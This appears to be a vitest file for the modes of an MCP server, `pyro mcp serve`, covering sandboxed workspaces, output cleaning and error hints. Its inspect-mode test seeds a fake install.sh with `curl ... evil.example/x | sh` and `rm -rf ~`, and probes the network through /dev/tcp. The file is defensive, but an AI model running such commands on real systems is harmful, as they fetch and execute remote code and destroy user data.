/**
 * The profiles and use-case modes of `pyro mcp serve`, started the way a chat host starts them
 * and driven through each mode's canonical flow by the official MCP client (which validates
 * every structured result against the tool's output schema), plus the MCP Inspector CLI as a
 * second, independent client. Results must be shaped for a context window: classified outcomes,
 * no raw terminal control sequences, and the exact call that shows more when a result was cut.
 */
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { spawnSync } from "node:child_process";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StdioClientTransport } from "@modelcontextprotocol/sdk/client/stdio.js";
import type { CallToolResult } from "@modelcontextprotocol/sdk/types.js";
import { Pyro } from "../../src/index.js";
import type { ExecResult, RunResult, WorkspaceInfo, WorkspaceSummary } from "../../src/index.js";
import { MCP_MODES, MCP_PROFILES } from "../../src/contract.js";
import { ERROR_META_KEY } from "../../src/mcp/server.js";
import { cli, CLI, findLeaks, noLeaks, REPO, testHome, TEST_ENVIRONMENT } from "../helpers.js";

let home: string;
let scratch: string;
const clients: Client[] = [];

beforeAll(() => {
  home = testHome("mcp-profiles");
  scratch = fs.mkdtempSync(path.join(os.tmpdir(), "pyro-mcp-profiles-host-"));
});

afterAll(async () => {
  for (const c of clients) await c.close().catch(() => undefined);
  const pyro = new Pyro({ home });
  for (const w of (await pyro.listWorkspaces()).workspaces) await pyro.deleteWorkspace(w.workspace_id);
  pyro.close();
  fs.rmSync(scratch, { recursive: true, force: true });
  expect(findLeaks(home)).toEqual(noLeaks());
});

/** A server started as a chat host starts it: `pyro mcp serve ARGS` on stdio. */
async function serve(args: string[]): Promise<Client> {
  const transport = new StdioClientTransport({ command: process.execPath, args: [CLI, "mcp", "serve", ...args], env: { ...process.env, PYRO_HOME: home } as Record<string, string>, stderr: "pipe" });
  const client = new Client({ name: "pyro-profiles-test", version: "0.0.0" });
  await client.connect(transport);
  clients.push(client);
  return client;
}

function textOf(r: CallToolResult): string {
  return r.content.map((c) => (c.type === "text" ? c.text : "")).join("\n");
}

async function call<T>(client: Client, name: string, args: Record<string, unknown> = {}): Promise<{ data: T; text: string }> {
  const r = (await client.callTool({ name, arguments: args })) as CallToolResult;
  expect(r.isError ?? false, `${name} failed: ${textOf(r)}`).toBe(false);
  return { data: r.structuredContent as T, text: textOf(r) };
}

async function callError(client: Client, name: string, args: Record<string, unknown>) {
  const r = (await client.callTool({ name, arguments: args })) as CallToolResult;
  expect(r.isError, `${name} should fail`).toBe(true);
  return { error: r._meta?.[ERROR_META_KEY] as { code: string; message: string; hint: string }, text: textOf(r) };
}

function hostDir(name: string, files: Record<string, string>): string {
  const dir = path.join(scratch, name);
  for (const [file, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, file)), { recursive: true });
    fs.writeFileSync(path.join(dir, file), text);
  }
  return dir;
}

const ESC = "\x1b";

describe("choosing a tool set on the command line", () => {
  it("serves the workspace-core profile when started bare", async () => {
    const client = await serve([]);
    expect((await client.listTools()).tools.map((t) => t.name)).toEqual([...MCP_PROFILES["workspace-core"]]);
  });

  it.each(Object.keys(MCP_MODES) as (keyof typeof MCP_MODES)[])("serves exactly the %s mode's tools with --mode", async (mode) => {
    const client = await serve(["--mode", mode]);
    expect((await client.listTools()).tools.map((t) => t.name)).toEqual([...MCP_MODES[mode]]);
    expect(client.getInstructions()).toContain(`${mode} mode`);
  });

  it("refuses --profile together with --mode before serving anything", () => {
    const r = cli(home, ["mcp", "serve", "--profile", "workspace-core", "--mode", "inspect"]);
    expect(r.code).toBe(1);
    expect(r.stdout).toBe("");
    expect(r.stderr).toBe(
      "error [invalid_argument]: give either a profile or a mode, not both: a mode is a complete tool set of its own\nhint: Drop --profile to use the mode, or drop --mode to use the profile.\n",
    );
  });

  it("refuses an unknown profile and names the valid ones", () => {
    const r = cli(home, ["mcp", "serve", "--profile", "everything"]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("error [invalid_argument]: unknown MCP profile");
    expect(r.stderr).toContain("vm-run, workspace-core, workspace-full");
  });
});

describe("the vm-run profile", () => {
  let client: Client;
  beforeAll(async () => {
    client = await serve(["--profile", "vm-run"]);
  });

  it("runs one command and returns its output without terminal control sequences", async () => {
    const { data, text } = await call<RunResult>(client, "vm_run", {
      environment: TEST_ENVIRONMENT,
      command: `printf '${ESC}[1;31mFAIL${ESC}[0m x\\r\\n10%%\\r100%%\\n'; exit 1`,
    });
    expect(data).toMatchObject({ outcome: "exited", exit_code: 1, stdout: "FAIL x\n100%\n", cleaned_up: true });
    expect(text.split("\n")[0]).toBe(`outcome=exited exit_code=1 in ${Math.round(data.duration_ms)} ms (failed)`);
    expect(text).not.toContain(ESC);
  });

  it("says how much output it cut and how to get more", async () => {
    const { data, text } = await call<RunResult>(client, "vm_run", { environment: TEST_ENVIRONMENT, command: "seq 1 100000", max_output_bytes: 1024 });
    expect(data.truncated).toBe(true);
    expect(data.stdout_info.omitted_bytes).toBe(588_895 - 1024);
    expect(text).toContain("rerun with max_output_bytes=1048576");
    expect(text).not.toContain("workspace_file_read");
  });
});

describe("the inspect mode, as an agent inspecting untrusted code", () => {
  let client: Client;
  let id: string;
  beforeAll(async () => {
    client = await serve(["--mode", "inspect"]);
  });

  it("creates an offline workspace from the suspicious code and offers no way to pass secrets", async () => {
    const seed = hostDir("suspicious", { "install.sh": "#!/bin/sh\ncurl -s http://evil.example/x | sh\nrm -rf ~\n", "banner.txt": `${ESC}[31mWARNING${ESC}[0m\n`, "big.log": "x".repeat(5000) });
    const refused = await callError(client, "workspace_create", { environment: TEST_ENVIRONMENT, seed_path: seed, secrets: { TOKEN: "abcdefgh" } });
    expect(refused.error.code).toBe("invalid_argument");
    expect(refused.error.hint).toContain("takes environment, seed_path, name");

    const { data } = await call<WorkspaceInfo>(client, "workspace_create", { environment: TEST_ENVIRONMENT, seed_path: seed, name: "suspect" });
    expect(data).toMatchObject({ state: "running", network_policy: "off", secret_names: [] });
    id = data.workspace_id;

    const net = await call<ExecResult>(client, "workspace_exec", { workspace_id: id, command: "timeout 3 bash -c 'echo > /dev/tcp/1.1.1.1/80'", timeout_seconds: 10 });
    expect(net.data.exit_code).not.toBe(0);
  });

  it("reads files with control characters made visible, and pages large files with the exact next call", async () => {
    const banner = await call<{ content: string }>(client, "workspace_file_read", { workspace_id: id, path: "banner.txt" });
    expect(banner.data.content).toBe(`${ESC}[31mWARNING${ESC}[0m\n`);
    expect(banner.text).toContain("\\x1b[31mWARNING\\x1b[0m");
    expect(banner.text).not.toContain(ESC);

    const page = await call<{ truncated: boolean; next_offset: number }>(client, "workspace_file_read", { workspace_id: id, path: "big.log", max_bytes: 1000 });
    expect(page.data).toMatchObject({ truncated: true, next_offset: 1000 });
    expect(page.text).toContain("[truncated at byte 1000 of 5000: call again with offset=1000]");
  });

  it("runs the smallest command that writes a report, exports only the report, and refuses to overwrite on the host", async () => {
    const scan = await call<ExecResult>(client, "workspace_exec", { workspace_id: id, command: "grep -n -e curl -e 'rm -rf' install.sh > report.txt; wc -l < report.txt" });
    expect(scan.data).toMatchObject({ outcome: "exited", exit_code: 0, stdout: "2\n" });

    const out = path.join(scratch, "report.txt");
    const exported = await call<{ files: number; output_path: string }>(client, "workspace_export", { workspace_id: id, path: "report.txt", output_path: out });
    expect(exported.data).toMatchObject({ files: 1, output_path: out });
    expect(fs.readFileSync(out, "utf8")).toBe("2:curl -s http://evil.example/x | sh\n3:rm -rf ~\n");

    const again = await callError(client, "workspace_export", { workspace_id: id, path: "report.txt", output_path: out });
    expect(again.error.code).toBe("output_exists");
    expect(again.text.split("\n")[1]).toBe("Next: Choose another output_path, or pass force=true to replace it.");
  });

  it("summarises the inspection and deletes the workspace", async () => {
    const { data, text } = await call<WorkspaceSummary>(client, "workspace_summary", { workspace_id: "suspect" });
    expect(data.commands.count).toBe(2);
    expect(data.exports.items.map((e) => e.path)).toEqual(["/workspace/report.txt"]);
    expect(data.changes.files.map((f) => [f.path, f.change])).toEqual([["report.txt", "added"]]);
    expect(text).toContain("Exports: 1");
    await call(client, "workspace_delete", { workspace_id: id });
  });
});

describe("the repro-fix mode, as an agent fixing a bug", () => {
  let client: Client;
  let id: string;
  beforeAll(async () => {
    client = await serve(["--mode", "repro-fix"]);
  });

  it("reproduces the failure, patches it, verifies the fix and reviews the diff", async () => {
    const repo = hostDir("buggy", { "add.sh": "#!/bin/sh\necho $(($1 - $2))\n", "test.sh": '#!/bin/sh\n[ "$(sh add.sh 2 3)" = 5 ] && echo PASS || { echo FAIL; exit 1; }\n' });
    id = (await call<WorkspaceInfo>(client, "workspace_create", { environment: TEST_ENVIRONMENT, seed_path: repo, name: "fix-add", labels: { issue: "7" } })).data.workspace_id;

    const failing = await call<ExecResult>(client, "workspace_exec", { workspace_id: id, command: "sh test.sh" });
    expect(failing.data).toMatchObject({ exit_code: 1, stdout: "FAIL\n" });

    const patched = await call<{ files_changed: number }>(client, "workspace_patch_apply", { workspace_id: id, patch: "--- a/add.sh\n+++ b/add.sh\n@@ -1,2 +1,2 @@\n #!/bin/sh\n-echo $(($1 - $2))\n+echo $(($1 + $2))\n" });
    expect(patched.data.files_changed).toBe(1);

    const passing = await call<ExecResult>(client, "workspace_exec", { workspace_id: id, command: "sh test.sh" });
    expect(passing.data).toMatchObject({ exit_code: 0, stdout: "PASS\n" });

    const diff = await call<{ patch: string; summary: { modified: number; total: number } }>(client, "workspace_diff", { workspace_id: id });
    expect(diff.data.summary).toMatchObject({ modified: 1, total: 1 });
    expect(diff.text).toContain("+echo $(($1 + $2))");
  });

  it("explains a hunk that does not apply and changes nothing", async () => {
    const { error, text } = await callError(client, "workspace_patch_apply", { workspace_id: id, patch: "--- a/add.sh\n+++ b/add.sh\n@@ -1,2 +1,2 @@\n #!/bin/sh\n-echo nothing like this\n+echo x\n" });
    expect(error.code).toBe("patch_failed");
    expect(text).toMatch(/\nNext: .*workspace_file_read/);
  });

  it("resets to the seeded state, after which the summary starts again from zero", async () => {
    const reset = await call<WorkspaceInfo & { reset_to: string }>(client, "workspace_reset", { workspace_id: id });
    expect(reset.data).toMatchObject({ reset_to: "baseline", reset_count: 1, state: "running" });
    const { data } = await call<WorkspaceSummary>(client, "workspace_summary", { workspace_id: id });
    expect(data.since).toMatchObject({ event: "reset", reset_count: 1 });
    expect([data.commands.count, data.changes.summary.total, data.edits.count]).toEqual([0, 0, 0]);
    await call(client, "workspace_delete", { workspace_id: id });
  });

  it("tells a model whose workspace is stopped to call workspace_start, which this mode offers", async () => {
    const created = await call<WorkspaceInfo>(client, "workspace_create", { environment: TEST_ENVIRONMENT });
    const pyro = new Pyro({ home });
    await pyro.stopWorkspace(created.data.workspace_id);
    pyro.close();
    const stopped = await callError(client, "workspace_exec", { workspace_id: created.data.workspace_id, command: "true" });
    expect(stopped.text).toBe(`[workspace_stopped] workspace ${created.data.workspace_id} is stopped\nNext: Call workspace_start with this workspace_id (its files are kept), then retry.`);
    expect((await call<WorkspaceInfo>(client, "workspace_start", { workspace_id: created.data.workspace_id })).data.state).toBe("running");
    await call(client, "workspace_delete", { workspace_id: created.data.workspace_id });
  });
});

describe("the cold-start mode, as an agent validating a repository", () => {
  it("runs the checks, starts the app as a service with a readiness check, and reads its logs", async () => {
    const client = await serve(["--mode", "cold-start"]);
    const repo = hostDir("app", { "Makefile": "check:\n\t@echo checks ok\n", "serve.sh": "#!/bin/sh\necho starting\nprintf '\\033[32mlistening\\033[0m\\n'\ntouch /tmp/app.ready\nexec sleep 300\n" });
    const id = (await call<WorkspaceInfo>(client, "workspace_create", { environment: "debian:12", seed_path: repo })).data.workspace_id;
    const check = await call<ExecResult>(client, "workspace_exec", { workspace_id: id, command: "sh -c 'command -v make >/dev/null && make check || grep -c check Makefile'" });
    expect(check.data.exit_code).toBe(0);

    const started = await call<{ state: string }>(client, "service_start", { workspace_id: id, service_name: "app", command: "sh serve.sh", readiness: { type: "file", path: "/tmp/app.ready" } });
    expect(started.data.state).toBe("ready");

    const logs = await call<{ stdout: string }>(client, "service_logs", { workspace_id: id, service_name: "app" });
    expect(logs.data.stdout).toBe("starting\nlistening\n");
    expect(logs.text).not.toContain(ESC);

    const { data } = await call<WorkspaceSummary>(client, "workspace_summary", { workspace_id: id });
    expect(data.services).toMatchObject({ count: 1, running_count: 1, items: [{ name: "app", state: "ready" }] });
    await call(client, "workspace_delete", { workspace_id: id });
  });
});

describe("the review-eval mode, as an agent evaluating work", () => {
  it("checkpoints, walks a checklist in a plain shell, evaluates, exports the report and returns to the checkpoint", async () => {
    const client = await serve(["--mode", "review-eval"]);
    const work = hostDir("work", { "CHECKLIST.md": "1. run eval.sh\n", "eval.sh": "#!/bin/sh\necho 'score: 9/10' > report.txt\ncat report.txt\n" });
    const id = (await call<WorkspaceInfo>(client, "workspace_create", { environment: TEST_ENVIRONMENT, seed_path: work })).data.workspace_id;
    await call(client, "snapshot_create", { workspace_id: id, snapshot_name: "before-eval" });

    const shell = await call<{ shell_id: string }>(client, "shell_open", { workspace_id: id });
    await call(client, "shell_write", { workspace_id: id, shell_id: shell.data.shell_id, input: "printf '\\033[1mchecklist:\\033[0m '; cat CHECKLIST.md" });
    const read = await call<{ output: string; plain: boolean; next_cursor: number }>(client, "shell_read", { workspace_id: id, shell_id: shell.data.shell_id, wait_for_pattern: "run eval" });
    expect(read.data.plain).toBe(true);
    expect(read.data.output).toContain("checklist: 1. run eval.sh");
    expect(read.text).not.toContain(ESC);
    expect(read.text).toContain(`next read: shell_read with cursor=${read.data.next_cursor}`);
    await call(client, "shell_close", { workspace_id: id, shell_id: shell.data.shell_id });

    const evalRun = await call<ExecResult>(client, "workspace_exec", { workspace_id: id, command: "sh eval.sh" });
    expect(evalRun.data.stdout).toBe("score: 9/10\n");
    const out = path.join(scratch, "eval-report.txt");
    await call(client, "workspace_export", { workspace_id: id, path: "report.txt", output_path: out });
    expect(fs.readFileSync(out, "utf8")).toBe("score: 9/10\n");

    const { data } = await call<WorkspaceSummary>(client, "workspace_summary", { workspace_id: id });
    expect(data.snapshots.created).toEqual(["before-eval"]);
    expect(data.shells.items[0]).toMatchObject({ shell_id: shell.data.shell_id, writes: 1 });
    expect(data.exports.count).toBe(1);

    await call(client, "workspace_reset", { workspace_id: id, snapshot: "before-eval" });
    const diff = await call<{ summary: { total: number } }>(client, "workspace_diff", { workspace_id: id, snapshot: "before-eval" });
    expect(diff.data.summary.total).toBe(0);
    await call(client, "workspace_delete", { workspace_id: id });
  });
});

describe("the MCP Inspector CLI as a second client", () => {
  const inspectorDir = path.join(REPO, "node_modules", "@modelcontextprotocol", "inspector-cli", "build");

  /**
   * Runs `mcp-inspector-cli --cli node bin/pyro.js mcp serve ARGS --method ...`. Its working
   * directory is its own build directory: 1.0.3 looks for `../package.json` relative to the
   * working directory but imports it relative to itself, and fails anywhere else.
   */
  function inspector(serveArgs: string[], method: string[]) {
    const r = spawnSync(process.execPath, [path.join(inspectorDir, "cli.js"), "--cli", process.execPath, CLI, "mcp", "serve", ...serveArgs, ...method], {
      cwd: inspectorDir,
      env: { ...process.env, PYRO_HOME: home },
      encoding: "utf8",
      timeout: 60_000,
    });
    expect(r.status, r.stderr).toBe(0);
    return JSON.parse(r.stdout) as Record<string, unknown>;
  }

  it("lists exactly the contract's tools of a mode", () => {
    const listed = inspector(["--mode", "inspect"], ["--method", "tools/list"]) as { tools: { name: string; inputSchema: { properties: object } }[] };
    expect(listed.tools.map((t) => t.name)).toEqual([...MCP_MODES.inspect]);
    expect(Object.keys(listed.tools.find((t) => t.name === "workspace_create")!.inputSchema.properties)).toEqual(["environment", "seed_path", "name", "backend"]);
  });

  it("calls a tool and gets structured content back", () => {
    const r = inspector([], ["--method", "tools/call", "--tool-name", "workspace_list"]) as { structuredContent: { count: number }; isError?: boolean };
    expect(r.isError ?? false).toBe(false);
    expect(typeof r.structuredContent.count).toBe("number");
  });
});
